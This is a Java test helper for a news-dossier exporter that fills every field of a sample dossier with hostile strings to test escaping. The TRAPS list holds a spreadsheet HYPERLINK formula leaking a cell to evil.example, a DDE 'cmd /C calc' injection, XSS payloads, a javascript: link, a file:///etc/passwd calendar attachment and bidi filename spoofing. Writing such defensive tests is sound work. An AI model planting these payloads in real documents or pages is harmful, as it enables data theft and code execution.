package org.recoupe.export;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.recoupe.annotation.EventMention;
import org.recoupe.annotation.Mention;
import org.recoupe.annotation.Modality;
import org.recoupe.annotation.Quotation;
import org.recoupe.article.Anchor;
import org.recoupe.article.Article;
import org.recoupe.article.ArticleId;
import org.recoupe.codec.DossierJson;
import org.recoupe.codec.InvalidDossierException;
import org.recoupe.dossier.Correction;
import org.recoupe.dossier.DateEstimate;
import org.recoupe.dossier.Dossier;
import org.recoupe.dossier.Evidence;
import org.recoupe.dossier.SampleDossier;
import org.recoupe.entity.Entity;
import org.recoupe.entity.EntityId;
import org.recoupe.text.Span;

/** Dossiers to hand on: the example of the distribution, one made by hand, and one full of traps. */
final class Exported {

    private static final Path EXAMPLE = Path.of("src", "test", "resources", "golden", "example", "dossier.json");

    /** What somebody may write to do harm or by chance: markup, formulas, signs that turn, line ends, signs that no format has. */
    static final List<String> TRAPS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1;2)\t=1+1\r\n+1",
            "\uFF1D1+1;\uFF0B2",
            "<script>alert(1)</script><img src=x onerror=alert(2)>",
            "</textarea>]]>--><b>&amp;&lt;\u0000\u0007\uFFFE",
            "« Dit-elle » : \"oui\", 'non' ; a\\nb\\;c",
            "\u202Egpj.exe\u202C \u2066droite\u2069 \u200Bzéro",
            "\uD83D\uDEA2\uD83D\uDC69\u200D\uD83D\uDE80 é e\u0301 \uD800",
            "BEGIN:VCALENDAR\r\nEND:VEVENT\r\nATTACH:file:///etc/passwd",
            "[^1]: note [x](javascript:alert(1)) `a` *b* | c",
            "'=déjà",
            "   ",
            "");

    private Exported() {}

    /** The dossiers, each with a name. */
    static Stream<Dossier> all() {
        return Stream.of(example(), SampleDossier.dossier(), SampleDossier.in("en"), trapped());
    }

    static Dossier example() {
        try {
            return DossierJson.read(Files.readString(EXAMPLE));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InvalidDossierException e) {
            throw new IllegalStateException(e);
        }
    }

    /** What {@code format} makes of {@code dossier}, as text. */
    static String text(String format, Dossier dossier) {
        return new String(ExportFormat.of(format).orElseThrow().write(dossier), StandardCharsets.UTF_8);
    }

    /** Every trap in every place: article, actor, event, attribute, statement, deadline, series, contradiction, judgement. */
    static Dossier trapped() {
        String text = "\uD83D\uDEA2" + String.join("\n", TRAPS);
        Article article = new Article(
                new ArticleId("a-=1;é/<b>"),
                TRAPS.get(0) + "/" + TRAPS.get(4),
                text,
                "fr",
                new Span(0, text.length()),
                null,
                null,
                null,
                List.of(),
                List.of(),
                List.of(),
                List.of());
        Evidence whole = new Evidence(
                new Anchor(article.id(), new Span(2, text.length())), List.of(TRAPS.get(4)), Modality.CONDITIONAL);
        List<Entity> actors = Stream.iterate(0, i -> i < TRAPS.size(), i -> i + 1)
                .map(i -> new Entity(
                        new EntityId("e-" + String.format(Locale.ROOT, "%02d", i) + TRAPS.get(i)),
                        Mention.Type.values()[i % Mention.Type.values().length],
                        TRAPS.get(i),
                        List.of(TRAPS.get(i), TRAPS.get((i + 1) % TRAPS.size())),
                        List.of(new Entity.RoleEvidence(TRAPS.get(i), List.of(whole.anchor()))),
                        i % 2 == 0 ? "fr" : "zz"))
                .toList();
        List<Dossier.Event> events = Stream.iterate(0, i -> i < TRAPS.size(), i -> i + 1)
                .map(i -> event(i, actors, article, whole))
                .toList();
        return new Dossier(
                "fr",
                new Dossier.Story(TRAPS.get(4), LocalDate.of(2031, 1, 1), null),
                List.of(new Dossier.DatedArticle(
                        article,
                        new DateEstimate("2031-13-45", null, null, List.of()),
                        Dossier.PublicationStatus.STATED,
                        List.of(whole))),
                actors,
                events,
                TRAPS.stream()
                        .map(trap -> new Dossier.Statement(
                                "s-" + trap,
                                actors.getFirst().id(),
                                trap,
                                Quotation.Kind.DIRECT,
                                trap,
                                trap,
                                List.of(trap),
                                List.of(),
                                "",
                                whole))
                        .toList(),
                List.of(new Dossier.Conflict(
                        "c-1",
                        Dossier.Conflict.Kind.VALUE,
                        events.getFirst().id(),
                        "duration",
                        TRAPS.stream()
                                .map(trap -> new Dossier.Conflict.Side(trap, List.of(whole)))
                                .toList(),
                        TRAPS.get(4))),
                TRAPS.stream()
                        .map(trap -> new Dossier.Deadline(
                                "d-" + trap,
                                trap.isEmpty() ? "2031-05" : trap.isBlank() ? "2031-05-01T09:30" : trap,
                                null,
                                actors.getFirst().id(),
                                actors.getLast().id(),
                                trap,
                                trap,
                                List.of(trap),
                                Dossier.Deadline.Outcome.OPEN,
                                List.of(whole)))
                        .toList(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                null,
                List.of(judgement(article)));
    }

    private static Dossier.Event event(int i, List<Entity> actors, Article article, Evidence whole) {
        String trap = TRAPS.get(i);
        return new Dossier.Event(
                "ev-" + trap,
                i % 3 == 0 ? "OTHER" : "CONSULT",
                trap,
                List.of(trap),
                Dossier.Status.values()[i % Dossier.Status.values().length],
                trap,
                i % 4 == 0
                        ? DateEstimate.UNKNOWN
                        : new DateEstimate(
                                i % 4 == 1 ? "2031-02" : null, LocalDate.of(2031, 2, 1), null, List.of(trap)),
                trap,
                actors.stream()
                        .map(actor -> new Dossier.Participant(
                                actor.id(),
                                EventMention.Role.values()[
                                        (i + actor.id().value().length()) % 6]))
                        .toList(),
                List.of(new Dossier.Attribute(
                        "deaths",
                        Dossier.AttributeStatus.SINGLE,
                        List.of(new Dossier.AttributeValue(trap, "exact", List.of(whole))))),
                List.of(new Dossier.Report(article.id(), List.of(whole))),
                1,
                List.of(trap));
    }

    private static Correction judgement(Article article) {
        return Correction.of(
                Correction.Kind.NOT_EVENT,
                List.of(new Correction.Place(article.id(), 0, 3, "")),
                List.of(),
                null,
                "Irène <b>Valcourt</b>",
                Instant.parse("2031-05-02T08:00:00Z"),
                "=1+1");
    }
}
